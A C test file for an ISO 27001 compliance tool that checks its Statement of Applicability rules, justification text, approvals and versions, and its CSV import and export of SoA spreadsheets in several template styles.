/* test-soa.c: the Statement of Applicability's rules, versions and spreadsheets.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include "attest.h"
#include <json-glib/json-glib.h>

#include "attest-test-util.h"

static AttestWorkspace *
new_workspace (TestDir    *fixture,
               const char *name)
{
  g_autofree char *path = test_dir_path (fixture, name);
  g_autoptr(GError) error = NULL;
  AttestWorkspace *workspace = attest_workspace_create (path, "Acme Ltd", &error);

  g_assert_no_error (error);
  return workspace;
}

static gboolean
entry_says (AttestWorkspace *workspace,
            AttestRecord    *entry,
            const char      *words)
{
  g_autoptr(GPtrArray) findings = attest_soa_check_entry (workspace, entry);

  for (guint i = 0; i < findings->len; i++)
    if (strstr (((AttestFinding *) g_ptr_array_index (findings, i))->message, words) != NULL)
      return TRUE;
  return FALSE;
}

static guint
n_findings (AttestWorkspace *workspace,
            AttestRecord    *entry)
{
  g_autoptr(GPtrArray) findings = attest_soa_check_entry (workspace, entry);
  return findings->len;
}

static void
test_rules (TestDir       *fixture,
            gconstpointer  data)
{
  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "rules.isms");
  AttestRecord *entry = attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.5.1");
  g_autoptr(GError) error = NULL;

  g_assert_true (entry_says (workspace, entry, "A.5.1 Policies for information security: not decided yet"));

  /* Excluded: needs its justification. */
  g_object_set (entry, "applicability", ATTEST_APPLICABILITY_NOT_APPLICABLE, NULL);
  g_assert_true (entry_says (workspace, entry, "excluded without a justification"));
  g_object_set (entry, "justification", "   ", NULL);
  g_assert_true (entry_says (workspace, entry, "excluded without a justification"));
  g_object_set (entry, "justification", "No such activity here.", NULL);
  g_assert_cmpuint (n_findings (workspace, entry), ==, 0);

  /* Included: a reason other than good practice, or a justification. */
  g_object_set (entry, "applicability", ATTEST_APPLICABILITY_APPLICABLE, "justification", "",
                "status", ATTEST_IMPLEMENTATION_PLANNED, "target-date", "2027-01-31", "owner", "CISO", NULL);
  g_assert_true (entry_says (workspace, entry, "included without a reason"));
  g_object_set (entry, "reason-best-practice", TRUE, NULL);
  g_assert_true (entry_says (workspace, entry, "included only as good practice"));
  g_object_set (entry, "justification", "Our customers expect it.", NULL);
  g_assert_cmpuint (n_findings (workspace, entry), ==, 0);
  g_object_set (entry, "justification", "", "reason-legal", TRUE, NULL);
  g_assert_cmpuint (n_findings (workspace, entry), ==, 0);

  /* Not implemented: a target date, a real one. */
  g_object_set (entry, "target-date", "", NULL);
  g_assert_true (entry_says (workspace, entry, "still to be implemented, and no target date"));
  g_object_set (entry, "target-date", "next spring", NULL);
  g_assert_true (entry_says (workspace, entry, "YYYY-MM-DD"));
  g_object_set (entry, "target-date", "2027-01-31", NULL);

  /* Implemented: evidence. No owner: flagged. */
  g_object_set (entry, "status", ATTEST_IMPLEMENTATION_IMPLEMENTED, "owner", "", NULL);
  g_assert_true (entry_says (workspace, entry, "implemented without evidence"));
  g_assert_true (entry_says (workspace, entry, "no owner"));
  {
    g_autoptr(AttestRecord) evidence = g_object_new (ATTEST_TYPE_EVIDENCE,
                                                     "soa-entry-id", attest_record_get_id (entry),
                                                     "title", "Information security policy v3",
                                                     "location", "Intranet › Policies", "date", "2026-03-01", NULL);
    g_assert_true (attest_workspace_add (workspace, evidence, &error));
    g_assert_no_error (error);
  }
  g_object_set (entry, "owner", "CISO", NULL);
  g_assert_cmpuint (n_findings (workspace, entry), ==, 0);

  /* Every undecided control is flagged; this one is not. */
  {
    g_autoptr(GPtrArray) all = attest_soa_check (workspace);
    g_assert_cmpuint (all->len, ==, 92);
  }
}

static void
test_derived_reason (TestDir       *fixture,
                     gconstpointer  data)
{
  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "derived.isms");
  AttestRecord *entry = attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.8.13");
  g_autoptr(AttestRecord) party = g_object_new (ATTEST_TYPE_INTERESTED_PARTY, "name", "Insurer", NULL);
  g_autoptr(AttestRecord) requirement = NULL;
  g_autoptr(GPtrArray) reasons = NULL;
  g_autoptr(GError) error = NULL;

  g_object_set (entry, "applicability", ATTEST_APPLICABILITY_APPLICABLE, "owner", "IT",
                "target-date", "2027-01-01", NULL);
  g_assert_true (entry_says (workspace, entry, "included without a reason"));

  g_assert_true (attest_workspace_add (workspace, party, &error));
  requirement = g_object_new (ATTEST_TYPE_REQUIREMENT, "party-id", attest_record_get_id (party),
                              "text", "Tested backups", NULL);
  g_assert_true (attest_workspace_add (workspace, requirement, &error));
  g_assert_true (attest_workspace_link (workspace, "soa-requirement", entry, requirement, &error));
  g_assert_no_error (error);

  /* The party's requirement is a reason; nobody ticks it by hand. */
  reasons = attest_soa_dup_reasons (workspace, entry);
  g_assert_cmpuint (reasons->len, ==, 1);
  g_assert_cmpstr (g_ptr_array_index (reasons, 0), ==, "Interested party requirement");
  g_assert_cmpuint (n_findings (workspace, entry), ==, 0);
}

/* The justification of an included control is derived from the workspace:
 * the risks it treats and the parties' requirements by their titles, the
 * reasons ticked; the written one follows, and stands alone where nothing
 * can be derived. An exclusion is justified by what is written. */
static void
test_justification (TestDir       *fixture,
                    gconstpointer  data)
{
  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "justification.isms");
  AttestRecord *entry = attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.8.13");
  g_autoptr(AttestRecord) party = g_object_new (ATTEST_TYPE_INTERESTED_PARTY, "name", "Insurer", NULL);
  g_autoptr(AttestRecord) requirement = NULL;
  g_autoptr(AttestRecord) risk = g_object_new (ATTEST_TYPE_RISK, "title", "Ransomware encrypts the backups", NULL);
  g_autoptr(AttestRecord) other = g_object_new (ATTEST_TYPE_RISK, "title", "Disk failure loses a day of work", NULL);
  g_autoptr(GError) error = NULL;
  g_autofree char *text = NULL;

  /* Nothing derived, nothing written: nothing to print. */
  text = attest_soa_dup_justification (workspace, entry);
  g_assert_cmpstr (text, ==, "");
  g_clear_pointer (&text, g_free);
  g_object_set (entry, "applicability", ATTEST_APPLICABILITY_APPLICABLE, "justification", "We restore weekly.", NULL);
  text = attest_soa_dup_justification (workspace, entry);
  g_assert_cmpstr (text, ==, "We restore weekly.");
  g_clear_pointer (&text, g_free);

  g_assert_true (attest_workspace_add (workspace, party, &error));
  requirement = g_object_new (ATTEST_TYPE_REQUIREMENT, "party-id", attest_record_get_id (party),
                              "text", "Tested backups", NULL);
  g_assert_true (attest_workspace_add (workspace, requirement, &error));
  g_assert_true (attest_workspace_link (workspace, "soa-requirement", entry, requirement, &error));
  g_assert_true (attest_workspace_add (workspace, risk, &error));
  g_assert_true (attest_workspace_add (workspace, other, &error));
  g_assert_true (attest_workspace_link (workspace, "risk-control", other, entry, &error));
  g_assert_true (attest_workspace_link (workspace, "risk-control", risk, entry, &error));
  g_assert_no_error (error);
  g_object_set (entry, "reason-legal", TRUE, "reason-contractual", TRUE, NULL);

  text = attest_soa_dup_justification (workspace, entry);
  /* The risks in the register's order, whatever the order of the links. */
  g_assert_nonnull (strstr (text, "It treats the risks “Ransomware encrypts the backups”, “Disk failure loses a day of work”."));
  g_assert_nonnull (strstr (text, "Insurer\u00a0— “Tested backups”"));
  g_assert_nonnull (strstr (text, "A law or regulation requires it."));
  g_assert_nonnull (strstr (text, "A contract requires it."));
  g_assert_null (strstr (text, "good practice"));
  /* The written justification adds to the derived one, last. */
  g_assert_true (g_str_has_suffix (text, " We restore weekly."));
  g_assert_true (strstr (text, "risks") < strstr (text, "Tested backups"));
  g_clear_pointer (&text, g_free);

  /* Beside a column of the risks (the audit pack's), the risks are named
   * there only: the justification says the control treats them, and gives
   * every other reason as before. */
  text = attest_soa_dup_justification_with (workspace, entry, ATTEST_SOA_RISKS_REFERRED);
  g_assert_true (g_str_has_prefix (text, "It treats the risks in the Risks column. "));
  g_assert_null (strstr (text, "Ransomware encrypts the backups"));
  g_assert_null (strstr (text, "Disk failure"));
  g_assert_nonnull (strstr (text, "Insurer\u00a0— “Tested backups”"));
  g_assert_nonnull (strstr (text, "A law or regulation requires it."));
  g_assert_true (g_str_has_suffix (text, " We restore weekly."));
  g_clear_pointer (&text, g_free);
  g_assert_true (attest_workspace_unlink (workspace, "risk-control", other, entry, &error));
  g_assert_no_error (error);
  text = attest_soa_dup_justification_with (workspace, entry, ATTEST_SOA_RISKS_REFERRED);
  g_assert_true (g_str_has_prefix (text, "It treats the risk in the Risks column. "));
  g_clear_pointer (&text, g_free);

  /* An exclusion: what is written, never a derived reason to include. */
  g_object_set (entry, "applicability", ATTEST_APPLICABILITY_NOT_APPLICABLE, "justification", "No backups kept.", NULL);
  text = attest_soa_dup_justification (workspace, entry);
  g_assert_cmpstr (text, ==, "No backups kept.");
}

static void
test_bulk_theme (TestDir       *fixture,
                 gconstpointer  data)
{
  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "bulk.isms");
  AttestRecord *people = attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.6.3");
  g_autoptr(GError) error = NULL;
  gint64 rows = attest_store_get_history_count (attest_workspace_get_store (workspace));

  g_assert_cmpuint (attest_soa_count_decided (workspace), ==, 0);
  /* A decided control keeps its decision. */
  g_object_set (people, "applicability", ATTEST_APPLICABILITY_NOT_APPLICABLE, NULL);
  g_assert_cmpuint (attest_soa_mark_theme_applicable (workspace, "People controls", &error), ==, 7);
  g_assert_no_error (error);
  g_assert_cmpint (attest_record_get_enum (people, "applicability"), ==, ATTEST_APPLICABILITY_NOT_APPLICABLE);
  g_assert_cmpuint (attest_soa_count_decided (workspace), ==, 8);
  g_assert_cmpint (attest_store_get_history_count (attest_workspace_get_store (workspace)), ==, rows + 8);
  g_assert_cmpuint (attest_soa_mark_theme_applicable (workspace, "People controls", &error), ==, 0);
}

static gboolean
count_approvals_cb (const AttestHistoryRow  *row,
                    gpointer                 user_data,
                    GError                 **error)
{
  if (g_strcmp0 (row->action, "approve") == 0 && g_strcmp0 (row->field, "number") == 0)
    (*(guint *) user_data)++;
  return TRUE;
}

static void
test_versions (TestDir       *fixture,
               gconstpointer  data)
{
  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "versions.isms");
  g_autofree char *path = g_strdup (attest_workspace_get_path (workspace));
  AttestRecord *entry = attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.5.7");
  AttestRecord *version;
  g_autoptr(GPtrArray) changes = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(JsonParser) parser = json_parser_new ();
  guint approvals = 0;
  int number;

  g_assert_null (attest_soa_get_approved (workspace));
  g_assert_null (attest_soa_approve (workspace, "  ", NULL, &error));
  g_assert_error (error, ATTEST_ERROR, ATTEST_ERROR_INVALID);
  g_clear_error (&error);

  g_object_set (entry, "applicability", ATTEST_APPLICABILITY_APPLICABLE, NULL);
  version = attest_soa_approve (workspace, "Board", "First version", &error);
  g_assert_no_error (error);
  g_object_get (version, "number", &number, NULL);
  g_assert_cmpint (number, ==, 1);
  g_assert_true (attest_soa_get_approved (workspace) == version);
  g_assert_true (json_parser_load_from_data (parser, attest_record_get_string (version, "snapshot"), -1, NULL));
  g_assert_cmpuint (json_object_get_size (json_node_get_object (json_parser_get_root (parser))), ==, 93);
  changes = attest_soa_diff (workspace, version, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (changes->len, ==, 0);
  g_clear_pointer (&changes, g_ptr_array_unref);

  /* Edits after approval are a draft, shown as changes. */
  g_object_set (entry, "status", ATTEST_IMPLEMENTATION_PARTIAL, NULL);
  changes = attest_soa_diff (workspace, version, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (changes->len, ==, 1);
  {
    AttestSoaChange *change = g_ptr_array_index (changes, 0);

    g_assert_cmpstr (change->control_id, ==, "iso27001:2022/A.5.7");
    g_assert_cmpstr (change->field, ==, "status");
    g_assert_cmpstr (change->old_value, ==, "not-started");
    g_assert_cmpstr (change->new_value, ==, "partial");
  }
  g_clear_pointer (&changes, g_ptr_array_unref);

  version = attest_soa_approve (workspace, "Board", NULL, &error);
  g_object_get (version, "number", &number, NULL);
  g_assert_cmpint (number, ==, 2);
  changes = attest_soa_diff (workspace, version, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (changes->len, ==, 0);

  /* Approvals are in the history, which still verifies. */
  g_clear_object (&workspace);
  workspace = attest_workspace_open (path, ATTEST_OPEN_READ_ONLY, &error);
  g_assert_no_error (error);
  g_assert_true (attest_store_foreach_history (attest_workspace_get_store (workspace), count_approvals_cb, &approvals, &error));
  g_assert_cmpuint (approvals, ==, 2);
  g_assert_true (attest_history_verify (attest_workspace_get_store (workspace), NULL, &error));
  g_assert_no_error (error);
  g_object_get (attest_soa_get_approved (workspace), "number", &number, NULL);
  g_assert_cmpint (number, ==, 2);
}

static void
test_csv_parse (void)
{
  const char *text = "\xef\xbb\xbf" "a,\"b, with comma\",\"say \"\"hi\"\"\"\r\n"
                     "\"two\nlines\",,x\r\n"
                     "\r\n"
                     "last,row,here";
  g_autoptr(GError) error = NULL;
  g_autoptr(GArray) lines = NULL;
  g_autoptr(GPtrArray) rows = attest_csv_parse (text, strlen (text), &lines, &error);
  char **row;

  g_assert_no_error (error);
  g_assert_cmpuint (rows->len, ==, 3);
  row = g_ptr_array_index (rows, 0);
  g_assert_cmpstrv (row, ((const char * const[]) { "a", "b, with comma", "say \"hi\"", NULL }));
  row = g_ptr_array_index (rows, 1);
  g_assert_cmpstrv (row, ((const char * const[]) { "two\nlines", "", "x", NULL }));
  g_assert_cmpuint (g_array_index (lines, guint, 2), ==, 5);
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* Semicolons, as many spreadsheets write. */
  {
    const char *semicolons = "Control;Applicable\n5.1;ja, sicher\n";

    rows = attest_csv_parse (semicolons, strlen (semicolons), NULL, &error);
  }
  g_assert_no_error (error);
  g_assert_cmpstr (((char **) g_ptr_array_index (rows, 1))[1], ==, "ja, sicher");
  g_clear_pointer (&rows, g_ptr_array_unref);

  /* What we write, we read back the same. */
  {
    const char *fields[] = { "plain", "with, comma", "with \"quotes\"", "two\r\nlines", " padded ", "" };
    g_autoptr(GString) out = g_string_new (NULL);

    attest_csv_append_row (out, fields, G_N_ELEMENTS (fields));
    rows = attest_csv_parse (out->str, out->len, NULL, &error);
    g_assert_no_error (error);
    for (guint i = 0; i < G_N_ELEMENTS (fields); i++)
      g_assert_cmpstr (((char **) g_ptr_array_index (rows, 0))[i], ==, fields[i]);
  }
}

static char *
strip_columns (const char *csv)
{
  /* Evidence and derived reasons do not travel through a spreadsheet. */
  g_autoptr(GPtrArray) rows = attest_csv_parse (csv, strlen (csv), NULL, NULL);
  GString *out = g_string_new (NULL);

  for (guint r = 0; r < rows->len; r++)
    {
      char **row = g_ptr_array_index (rows, r);
      g_auto(GStrv) tokens = g_strsplit (row[4], "; ", -1);
      g_autoptr(GString) reasons = g_string_new (NULL);

      /* Derived reasons come from links, which a spreadsheet does not carry. */
      for (guint t = 0; tokens[t] != NULL; t++)
        if (!g_str_equal (tokens[t], "interested party") && !g_str_equal (tokens[t], "risk treatment"))
          g_string_append_printf (reasons, "%s%s", reasons->len ? "; " : "", tokens[t]);
      g_string_append_printf (out, "%s|%s|%s|%s|%s|%s|%s|%s|%s\n", row[0], row[3], reasons->str,
                              row[5], row[6], row[7], row[8], row[9], row[11]);
    }
  return g_string_free (out, FALSE);
}

static void
test_csv_round_trip (TestDir       *fixture,
                     gconstpointer  data)
{
  g_autofree char *demo_path = test_dir_path (fixture, "demo.isms");
  g_autoptr(GError) error = NULL;
  g_autoptr(AttestWorkspace) demo = attest_demo_create (demo_path, ATTEST_DEMO_SMALL, &error);
  g_autoptr(AttestWorkspace) copy = new_workspace (fixture, "copy.isms");
  g_autofree char *first = attest_csv_export_soa (demo);
  g_autofree char *second = NULL;
  g_autofree char *a = NULL;
  g_autofree char *b = NULL;
  g_autoptr(GPtrArray) report = NULL;

  g_assert_true (g_str_has_prefix (first, "Control,Title,Theme,Applicable,Reasons,Justification,Implementation,"
                                          "Target date,Owner,How it is implemented,Evidence,Last reviewed\r\n"));
  g_assert_true (attest_csv_import_soa (copy, first, strlen (first), &report, &error));
  g_assert_no_error (error);
  g_assert_cmpstr (g_ptr_array_index (report, 0), ==, "Read 93 rows into 93 controls.");
  second = attest_csv_export_soa (copy);
  a = strip_columns (first);
  b = strip_columns (second);
  g_assert_true (g_str_equal (a, b));
}

static void
test_csv_2013 (TestDir       *fixture,
               gconstpointer  data)
{
  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "old.isms");
  const char *csv =
    "Justification,Ref,Included,Status,Control owner\n"
    "Needed for remote work,A.9.1.1,yes,implemented,IT\n"
    "Networks are segmented,A.9.1.2,no,,Network team\n"
    "Audits and vulnerabilities,A.18.2.3,x,partial,\n"
    "Policy,5.1.1,true,done,CISO\n";
  g_autoptr(GPtrArray) report = NULL;
  g_autoptr(GError) error = NULL;
  AttestRecord *entry;
  gboolean merged = FALSE, new_listed = FALSE;

  g_assert_true (attest_csv_import_soa (workspace, csv, strlen (csv), &report, &error));
  g_assert_no_error (error);
  for (guint i = 0; i < report->len; i++)
    {
      const char *line = g_ptr_array_index (report, i);

      g_test_message ("%s", line);
      merged |= strstr (line, "A.5.15 Access control: merged from A.9.1.1, A.9.1.2") != NULL;
      new_listed |= strstr (line, "A.5.7 Threat intelligence: new in 2022") != NULL;
    }
  g_assert_true (merged);
  g_assert_true (new_listed);

  /* Merged: applicable wins, texts are kept, the lower status. */
  entry = attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.5.15");
  g_assert_cmpint (attest_record_get_enum (entry, "applicability"), ==, ATTEST_APPLICABILITY_APPLICABLE);
  g_assert_cmpstr (attest_record_get_string (entry, "justification"), ==, "Needed for remote work / Networks are segmented");
  g_assert_cmpstr (attest_record_get_string (entry, "owner"), ==, "IT / Network team");
  g_assert_cmpint (attest_record_get_enum (entry, "status"), ==, ATTEST_IMPLEMENTATION_IMPLEMENTED);
  /* One 2013 control into two 2022 controls. */
  g_assert_cmpint (attest_record_get_enum (attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.5.36"), "status"),
                   ==, ATTEST_IMPLEMENTATION_PARTIAL);
  g_assert_cmpint (attest_record_get_enum (attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.8.8"), "applicability"),
                   ==, ATTEST_APPLICABILITY_APPLICABLE);
  g_assert_cmpint (attest_record_get_enum (attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.5.1"), "status"),
                   ==, ATTEST_IMPLEMENTATION_IMPLEMENTED);
}

/* Spreadsheets as people keep them: each fixture in tests/data/ is modelled
 * on a kind of published SoA template, and imports exactly. */

typedef struct
{
  const char *control;        /* 2022 number */
  int         applicability;
  int         status;
  const char *justification;
  const char *owner;
  const char *implementation;
  const char *target;
  const char *reviewed;
  int         reasons;        /* bits: legal, contractual, business, best practice; -1: not in the file */
} Expected;

#define A ATTEST_APPLICABILITY_APPLICABLE
#define N ATTEST_APPLICABILITY_NOT_APPLICABLE
#define NS ATTEST_IMPLEMENTATION_NOT_STARTED
#define PL ATTEST_IMPLEMENTATION_PLANNED
#define PA ATTEST_IMPLEMENTATION_PARTIAL
#define IM ATTEST_IMPLEMENTATION_IMPLEMENTED

static const struct
{
  const char *file;
  const char *modelled_on;
  const char *roles;          /* the recognised role of each column, by key */
  Expected    entries[6];
} fixtures[] = {
  { "soa-consultant.csv",
    "a consultant's Excel SoA: Ref / Control (the title) / Applicable (Y/N) / Justification",
    "control title applicable justification implementation owner",
    { { "5.1", A, IM, "Required by ISO 27001, and by our clients", "CISO", "", "", "", -1 },
      { "5.2", A, PA, "Business need", "HR Director", "", "", "", -1 },
      { "5.3", N, NS, "Five staff; duties cannot be split", "", "", "", "", -1 },
      { "6.1", A, PL, "Legal requirement", "HR Director", "", "", "", -1 },
      { "8.33", N, NS, "No software development", "", "", "", "", -1 } } },
  { "soa-toolkit.csv",
    "an ISMS toolkit's SoA: Control no. / Control name / Applicable? / Reason for selection / Implemented?, CR LF",
    "control title applicable reasons justification implementation owner target-date evidence",
    { { "5.7", A, PA, "", "Security Officer", "", "2027-03-31", "", 8 },
      { "5.23", A, IM, "", "IT Manager", "", "", "", 3 },
      { "7.4", N, NS, "Offices are in a managed building", "", "", "", "", 0 },
      { "8.11", A, NS, "", "Development Lead", "", "2027-06-30", "", 4 } } },
  { "soa-2013.csv",
    "a 2013-era SoA: ID (A.9.2.1) / Control objective / Control (the 2013 title) / Selected / Review date",
    "control ignore title applicable justification implementation last-reviewed",
    { { "5.16", A, IM, "Joiners and leavers process", "", "", "", "2026-01-15", -1 },
      { "5.18", A, PA, "Access requests in the service desk", "", "", "", "2026-01-15", -1 },
      { "7.1", N, NS, "Fully remote company", "", "", "", "2025-11-30", -1 },
      { "5.8", A, PL, "Projects handle client data", "", "", "", "", -1 } } },
  { "soa-german.csv",
    "a German SoA (Erklärung zur Anwendbarkeit) saved by Excel: BOM, ';', CR LF, Ja / Nein / Teilweise",
    "control title applicable justification implementation owner target-date",
    { { "5.1", A, IM, "Gesetzliche Anforderung (NIS2)", "Geschäftsführung", "", "", "", -1 },
      { "5.9", A, PA, "Kundenanforderung; ISO 27001", "IT-Leitung", "", "2027-01-31", "", -1 },
      { "7.5", N, NS, "Rechenzentrum beim Dienstleister", "", "", "", "", -1 },
      { "8.28", N, NS, "Keine eigene Softwareentwicklung", "", "", "", "", -1 },
      { "6.3", A, PL, "Pflicht für alle Mitarbeitenden", "Personalabteilung", "", "2026-12-31", "", -1 } } },
  { "soa-numbered.csv",
    "a free template's numbered list: # (2013 ids) / Control / Applicability / Status with Partially / Notes",
    "control title applicable implementation how owner",
    { { "8.8", A, PA, "", "Operations", "Monthly scans / Yearly penetration test", "", "", -1 },
      { "5.36", A, IM, "", "Operations", "Yearly penetration test", "", "", -1 },
      { "8.27", N, NS, "", "", "No in-house development", "", "", -1 },
      { "5.1", A, PA, "", "CEO", "Policy set approved by the board / Reviewed yearly", "", "", -1 } } },
};

static char *
read_fixture (const char *name,
              gsize      *length)
{
  g_autofree char *path = test_data_path (name);
  g_autoptr(GError) error = NULL;
  char *contents = NULL;

  g_file_get_contents (path, &contents, length, &error);
  g_assert_no_error (error);
  return contents;
}

static void
assert_entry (AttestWorkspace *workspace,
              const Expected  *want)
{
  static const char * const reasons[] = { "reason-legal", "reason-contractual", "reason-business", "reason-best-practice" };
  g_autofree char *id = g_strdup_printf ("iso27001:2022/A.%s", want->control);
  AttestRecord *entry = attest_workspace_lookup_soa_entry (workspace, id);

  g_test_message ("A.%s", want->control);
  g_assert_nonnull (entry);
  g_assert_cmpint (attest_record_get_enum (entry, "applicability"), ==, want->applicability);
  g_assert_cmpint (attest_record_get_enum (entry, "status"), ==, want->status);
  g_assert_cmpstr (attest_record_get_string (entry, "justification"), ==, want->justification);
  g_assert_cmpstr (attest_record_get_string (entry, "owner"), ==, want->owner);
  g_assert_cmpstr (attest_record_get_string (entry, "implementation"), ==, want->implementation);
  g_assert_cmpstr (attest_record_get_string (entry, "target-date"), ==, want->target);
  g_assert_cmpstr (attest_record_get_string (entry, "last-reviewed"), ==, want->reviewed);
  for (guint r = 0; r < G_N_ELEMENTS (reasons); r++)
    g_assert_cmpint (attest_record_get_boolean (entry, reasons[r]), ==, want->reasons > 0 && (want->reasons & (1 << r)) != 0);
}

static void
test_csv_fixtures (TestDir       *fixture,
                   gconstpointer  data)
{
  for (guint f = 0; f < G_N_ELEMENTS (fixtures); f++)
    {
      g_autofree char *name = g_strdup_printf ("%u.isms", f);
      g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, name);
      gsize length;
      g_autofree char *csv = read_fixture (fixtures[f].file, &length);
      g_autoptr(GError) error = NULL;
      g_autoptr(AttestCsvAnalysis) analysis = NULL;
      g_autoptr(GPtrArray) report = NULL;
      g_autoptr(GPtrArray) changes = NULL;
      g_auto(GStrv) keys = g_strsplit (fixtures[f].roles, " ", -1);
      guint n_entries = 0;
      gint64 rows = attest_store_get_history_count (attest_workspace_get_store (workspace));

      g_test_message ("%s: %s", fixtures[f].file, fixtures[f].modelled_on);
      analysis = attest_csv_analyse_soa (csv, length, NULL, 0, &error);
      g_assert_no_error (error);
      g_assert_true (attest_csv_analysis_check (analysis, &error));
      g_assert_cmpuint (attest_csv_analysis_get_n_columns (analysis), ==, g_strv_length (keys));
      for (guint i = 0; keys[i] != NULL; i++)
        g_assert_cmpstr (attest_csv_role_get_key (attest_csv_analysis_get_role (analysis, i)), ==, keys[i]);

      /* Analysing writes nothing; the changes are told in advance. */
      while (fixtures[f].entries[n_entries].control != NULL)
        n_entries++;
      changes = attest_csv_analysis_dup_changes (analysis, workspace);
      g_assert_cmpint (attest_store_get_history_count (attest_workspace_get_store (workspace)), ==, rows);
      {
        g_autofree char *first = g_strdup_printf ("%u controls change.", n_entries);

        g_assert_cmpstr (g_ptr_array_index (changes, 0), ==, first);
      }

      g_assert_true (attest_csv_apply_soa (workspace, analysis, &report, &error));
      g_assert_no_error (error);
      for (guint e = 0; e < n_entries; e++)
        assert_entry (workspace, &fixtures[f].entries[e]);
      /* Exactly these: every other control is as it was. */
      {
        GListModel *entries = attest_workspace_get_records (workspace, ATTEST_TYPE_SOA_ENTRY);
        guint decided = 0;

        for (guint i = 0; i < g_list_model_get_n_items (entries); i++)
          {
            g_autoptr(AttestRecord) entry = g_list_model_get_item (entries, i);

            decided += attest_record_get_enum (entry, "applicability") != ATTEST_APPLICABILITY_UNDECIDED;
          }
        g_assert_cmpuint (decided, ==, n_entries);
      }
    }
}

#undef A
#undef N
#undef NS
#undef PL
#undef PA
#undef IM

/* "ID" and "Control" are both names of the id column; the cells tell. */
static void
test_csv_by_content (TestDir       *fixture,
                     gconstpointer  data)
{
  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "content.isms");
  const char *csv = "ID,Control,Applicable,Remark\n1,A.5.1,yes,x\n2,A.5.2,no,y\n3,,,\n";
  const char *no_header = ",Applicable\nA.5.1,yes\n5.2,no\n";
  g_autoptr(AttestCsvAnalysis) analysis = attest_csv_analyse_soa (csv, strlen (csv), NULL, 0, NULL);
  g_autoptr(AttestCsvAnalysis) headless = attest_csv_analyse_soa (no_header, strlen (no_header), NULL, 0, NULL);
  g_autoptr(GError) error = NULL;

  g_assert_cmpint (attest_csv_analysis_get_role (analysis, 0), ==, ATTEST_CSV_ROLE_NONE);
  g_assert_cmpint (attest_csv_analysis_get_role (analysis, 1), ==, ATTEST_CSV_ROLE_CONTROL);
  g_assert_cmpint (attest_csv_analysis_get_how (analysis, 1), ==, ATTEST_CSV_BY_HEADER);
  g_assert_cmpint (attest_csv_analysis_get_role (analysis, 2), ==, ATTEST_CSV_ROLE_APPLICABLE);
  /* Row 3 has no control: the id column decides over all rows. */
  g_assert_false (attest_csv_analysis_check (analysis, &error));
  g_assert_nonnull (strstr (error->message, "line 4: the control is empty"));
  g_clear_error (&error);

  /* No header at all: 100% of the cells are ids. */
  g_assert_true (attest_csv_analysis_check (headless, &error));
  g_assert_cmpint (attest_csv_analysis_get_role (headless, 0), ==, ATTEST_CSV_ROLE_CONTROL);
  g_assert_cmpint (attest_csv_analysis_get_how (headless, 0), ==, ATTEST_CSV_BY_CONTENT);
  {
    GPtrArray *preview = attest_csv_analysis_get_preview (headless);

    g_assert_cmpuint (preview->len, ==, 2);
    g_assert_cmpstr (((char **) g_ptr_array_index (preview, 1))[0], ==, "A.5.2");
    g_assert_cmpstr (((char **) g_ptr_array_index (preview, 1))[1], ==, "Not applicable");
  }
  g_assert_true (attest_csv_apply_soa (workspace, headless, NULL, &error));
  g_assert_cmpint (attest_record_get_enum (attest_workspace_lookup_soa_entry (workspace, "iso27001:2022/A.5.2"), "applicability"),
                   ==, ATTEST_APPLICABILITY_NOT_APPLICABLE);
}

/* Two columns of ids and nothing to tell them apart: the analysis says
 * which, the file is not applied, and a choice settles it. */
static void
test_csv_ambiguous (TestDir       *fixture,
                    gconstpointer  data)
{
  g_autoptr(AttestWorkspace) workspace = new_workspace (fixture, "ambiguous.isms");
  const char *csv = "No.,Control,Applicable\nA.5.1,5.1,yes\nA.5.2,5.2,no\n";
  g_autoptr(AttestCsvAnalysis) analysis = attest_csv_analyse_soa (csv, strlen (csv), NULL, 0, NULL);
  g_autoptr(AttestCsvAnalysis) chosen = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree int *assigned = NULL;
  gint64 rows = attest_store_get_history_count (attest_workspace_get_store (workspace));

  g_assert_false (attest_csv_analysis_check (analysis, &error));
  g_assert_cmpstr (error->message, ==, "line 1: the columns “No.” and “Control” both hold control ids; choose which one is the control.");
  g_clear_error (&error);
  g_assert_true (attest_csv_analysis_is_ambiguous (analysis, 0));
  g_assert_true (attest_csv_analysis_is_ambiguous (analysis, 1));
  g_assert_false (attest_csv_analysis_is_ambiguous (analysis, 2));
  g_assert_cmpuint (attest_csv_analysis_get_candidates (analysis, 0), ==,
                    1u << ATTEST_CSV_ROLE_CONTROL | 1u << ATTEST_CSV_ROLE_NONE);
  g_assert_false (attest_csv_apply_soa (workspace, analysis, NULL, &error));
  g_clear_error (&error);
  g_assert_cmpint (attest_store_get_history_count (attest_workspace_get_store (workspace)), ==, rows);

  /* Bad choices are refused naming what there is. */
  g_assert_null (attest_csv_analysis_parse_columns (analysis, "control=Nummer", &error));
  g_assert_cmpstr (error->message, ==, "No column is headed “Nummer”; the columns are “No.”, “Control” and “Applicable”.");
  g_clear_error (&error);
  g_assert_null (attest_csv_analysis_parse_columns (analysis, "kontrolle=No.", &error));
  g_assert_nonnull (strstr (error->message, "“kontrolle” is not a column role; the roles are control, title,"));
  g_clear_error (&error);

  assigned = attest_csv_analysis_parse_columns (analysis, "control=no.,title=Control", &error);
